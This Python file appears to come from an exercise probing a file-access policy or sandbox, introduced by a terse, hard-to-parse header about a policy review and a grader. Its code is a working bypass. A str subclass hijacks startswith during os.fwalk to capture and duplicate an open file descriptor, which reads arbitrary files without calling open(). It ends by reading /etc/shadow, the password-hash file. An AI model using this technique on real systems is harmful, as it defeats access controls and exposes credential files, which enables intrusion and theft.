# a152 (a policy review's seventh round, twenty-eighth session; shown with stand-ins, the memory routes only where the grader is not root):
# h04 (every exercise: os): h01 with no dunder method at all (open() of any path, prize 2): the object put in os.fwalk's dirs is a str subclass whose ordinary method startswith is the hook (os.path.join(toppath, name) calls name.startswith("/") while the descriptor fwalk opened for that name is open): it keeps os.dup of it
import os

KEPT = {}


class Name(str):
    def startswith(self, *args):
        for fd in os.listdir("/proc/self/fd"):
            try:
                if os.path.samefile("/proc/self/fd/" + fd, str(self)):
                    KEPT[str(self)] = os.dup(int(fd))
                    break
            except OSError:
                pass
        return str.startswith(self, *args)


def read_any(path, size=4096, offset=0):
    if path not in KEPT:
        walk = os.fwalk("/", follow_symlinks=True)
        top, dirs, files, fd = next(walk)
        dirs[:] = [Name(path)]
        try:
            next(walk)
        except (NotADirectoryError, StopIteration):
            pass
        walk.close()
    return os.pread(KEPT[path], size, offset)


def consumer(tasks, stop, do):
    return read_any("/etc/shadow", 64)
